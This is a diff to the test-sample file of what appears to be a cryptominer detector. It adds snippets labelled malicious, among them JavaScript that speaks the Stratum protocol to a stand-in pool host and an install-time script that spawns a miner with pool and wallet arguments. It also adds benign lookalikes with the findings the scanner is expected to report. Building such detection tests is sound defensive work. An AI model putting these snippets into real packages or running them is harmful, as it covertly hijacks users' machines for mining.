@@ -4,6 +4,20 @@ import { at, HOOK_LINE, hooked, imported, installed, quiet, wheel } from '../sam
 export const samples: Samples = {
   malicious: [
     {
+      name: 'the protocol of a pool, spoken by a function',
+      files: imported(
+        `const net = require('net'), { createHash } = require('crypto');\nexports.work = (wallet, header) => {\n  const pool = net.connect(3333, 'pool.weir.test');\n  const say = (method, ...params) => pool.write(JSON.stringify({ method, params }));\n  say('mining.subscribe', header);\n  say('mining.authorize', wallet);\n  for (let i = 0; i < 9; i++) say('mining.submit', createHash('sha256').update(header + i).digest('hex'));\n};\n`,
+      ),
+      expected: [at('pool', 'high', 'index.js', 5)],
+    },
+    {
+      name: 'a program of any name that is given a pool and a wallet',
+      files: installed(
+        `require('child_process').spawn('./render', ['-o', 'pool.weir.test:3333', '-u', '4444444444444444444444444']);\n`,
+      ),
+      expected: [at('miner', 'critical', 'setup.js', 1)],
+    },
+    {
       name: 'Python: a function that names a pool',
       files: wheel(
         'import subprocess\nPOOL = "stratum+tcp://pool.weir.test:3333"\ndef dig(tool):\n    subprocess.run([tool, POOL])\n',
@@ -41,6 +55,18 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a program that is given an output and a user',
+      imported(
+        `require('child_process').spawn('tool', ['-o', 'out.txt', '-u', '4444444444444444444444444']);\n`,
+      ),
+    ),
+    quiet(
+      'a counter of hashes',
+      imported(
+        `const { createHash } = require('crypto');\nexports.rate = () => {\n  let n = 0;\n  for (const end = Date.now() + 1000; Date.now() < end; n++) createHash('sha256').update('a' + n).digest();\n  return n;\n};\n`,
+      ),
+    ),
     quiet('a chart of coins', imported(`module.exports = { xmr: 'Monero', algo: 'randomx' };\n`)),
     quiet(
       'a list of processes to look for',
